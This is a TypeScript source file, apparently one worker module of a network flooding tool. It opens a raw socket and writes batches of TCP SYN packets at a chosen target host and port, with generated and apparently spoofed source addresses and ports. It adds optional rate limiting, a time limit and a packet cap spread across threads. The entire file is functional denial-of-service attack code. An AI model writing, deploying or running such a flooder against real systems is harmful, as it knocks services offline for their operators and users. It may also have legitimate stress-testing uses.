/** One thread of a flood: writes SYNs until its time is up, its share is written, or it is stopped. */
import { workerData } from 'node:worker_threads'
import { monotonicMs } from '#common/clock.ts'
import { addressBytes, socketAddress } from '#kernel/address.ts'
import { KernelError } from '#kernel/errors.ts'
import * as libc from '#kernel/libc.ts'
import { type FloodOrder, SharedCounts } from './half-open-order.ts'
import { SYN_BYTES, templateSum, writeSyn, writeTemplate } from './syn-packet.ts'
import { countingSource, randomSource } from './syn-source.ts'

/** SYNs in one system call; more gains nothing measurable, and the clock is read between calls. */
const BATCH = 64
const BUSY_PAUSE_MS = 1
const LONGEST_SLEEP_MS = 100

function flood(order: FloodOrder): void {
  const counts = new SharedCounts(order.workers, order.counts)
  const doing = 'Writing SYNs'
  const fd = libc.socket(libc.AF_INET, libc.SOCK_RAW | libc.SOCK_CLOEXEC, libc.IPPROTO_RAW, 'Opening a raw socket')
  try {
    libc.bindToDevice(fd, order.device, doing)
    const batch = new libc.DatagramBatch(BATCH, SYN_BYTES, socketAddress(order.target.host, 0))
    for (const packet of batch.packets)
      writeTemplate(packet, { address: addressBytes(order.target.host), port: order.target.port })
    const sum = templateSum(batch.packets[0]!)
    const source =
      order.sourcePorts === 'counting' ? countingSource(order.sources) : randomSource(order.sources, Math.random)
    const most = Math.floor(order.maxSyns / order.workers) + (order.worker < order.maxSyns % order.workers ? 1 : 0)
    const perMs = order.ratePerSecond === undefined ? undefined : order.ratePerSecond / 1000
    const beganMs = monotonicMs()

    for (let written = 0; written < most && !counts.stopped; ) {
      const elapsedMs = monotonicMs() - beganMs
      if (elapsedMs >= order.durationMs) return
      const scheduled = perMs === undefined ? most : Math.min(most, Math.floor(elapsedMs * perMs) + 1)
      const due = Math.min(BATCH, scheduled - written)
      if (due <= 0) {
        const untilNextMs = written / (perMs ?? 1) - elapsedMs
        counts.sleep(Math.max(0, Math.min(LONGEST_SLEEP_MS, order.durationMs - elapsedMs, untilNextMs)))
        continue
      }
      for (let i = 0; i < due; i++) {
        const pair = order.firstPair + order.worker + (written + i) * order.workers
        writeSyn(batch.packets[i]!, sum, source.address(pair), source.port(pair), Math.imul(pair, 0x9e37_79b1))
      }
      const taken = sendUnlessBusy(batch, fd, due, doing)
      if (taken === 0) {
        counts.addBusy(order.worker)
        counts.sleep(BUSY_PAUSE_MS)
      }
      written += taken
      counts.addSyns(order.worker, taken)
    }
  } finally {
    libc.close(fd)
  }
}

/** How many the kernel took; 0 if it has no room at the moment. */
function sendUnlessBusy(batch: libc.DatagramBatch, fd: number, count: number, doing: string): number {
  try {
    return batch.send(fd, count, doing)
  } catch (error) {
    if (error instanceof KernelError && (error.code === 'ENOBUFS' || error.code === 'EAGAIN')) return 0
    throw error
  }
}

const order: FloodOrder = workerData
flood(order)
